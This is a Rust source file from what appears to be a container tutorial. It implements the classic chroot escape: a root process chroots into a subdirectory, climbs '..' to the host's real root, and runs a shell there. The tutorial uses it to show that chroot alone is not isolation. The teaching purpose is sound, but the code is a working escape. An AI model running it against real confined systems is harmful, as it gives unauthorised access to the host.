//! breakout: the classic escape from a chroot. Chapter 1 runs it inside a
//! step 01 container, as root, to show that chroot(2) is not isolation.
//!
//! `breakout [COMMAND [ARG...]]` climbs out, then runs COMMAND (default
//! /bin/sh) with the host's "/" as its root.
//!
//! chroot changes one thing: which directory a process calls "/". It does
//! not move the current directory, and ".." stops only at the process's own
//! root. So a root process inside a chroot can:
//!   1. chroot into a subdirectory without entering it: its current
//!      directory is now *outside* its root;
//!   2. chdir("..") until "." and ".." are the same directory: no root stops
//!      the climb on the way, so that is the host's real "/";
//!   3. chroot(".") there.
//!
//! It needs CAP_SYS_CHROOT, which root has. Step 03 closes the hole: after
//! pivot_root and detaching the old root, there is no host tree left above.

use std::fs;
use std::os::unix::fs::{MetadataExt, chroot};
use std::os::unix::process::CommandExt;
use std::process::{Command, ExitCode};

// ANCHOR: escape
fn escape() -> std::io::Result<()> {
    const INNER: &str = ".breakout";
    fs::create_dir(INNER)?;
    chroot(INNER)?; // our root moves down a level; our current directory does not
    fs::remove_dir(INNER)?; // a relative path: still found from where we stand
    while !same_directory(".", "..")? {
        std::env::set_current_dir("..")?;
    }
    chroot(".")
}
// ANCHOR_END: escape

fn same_directory(a: &str, b: &str) -> std::io::Result<bool> {
    Ok(identity(a)? == identity(b)?)
}

/// A directory's identity: its device and inode numbers.
fn identity(path: &str) -> std::io::Result<(u64, u64)> {
    let meta = fs::metadata(path)?;
    Ok((meta.dev(), meta.ino()))
}

fn main() -> ExitCode {
    let mut args = std::env::args_os().skip(1);
    let program = args.next().unwrap_or_else(|| "/bin/sh".into());
    let shown = program.to_string_lossy().into_owned();
    // Whether the climb ended somewhere new, or back at our own "/".
    let escaped = identity("/").and_then(|before| {
        std::env::set_current_dir("/")?;
        escape()?;
        Ok(identity("/")? != before)
    });
    match escaped {
        Ok(true) => {
            eprintln!("breakout: out of the chroot; running {shown} with the host's / as root")
        }
        Ok(false) => eprintln!(
            "breakout: the top of the tree is the container's own root; running {shown} there"
        ),
        Err(error) => {
            eprintln!("breakout: cannot escape: {error}");
            return ExitCode::FAILURE;
        }
    }
    let error = Command::new(&program).args(args).exec();
    eprintln!("breakout: cannot run {shown}: {error}");
    ExitCode::FAILURE
}
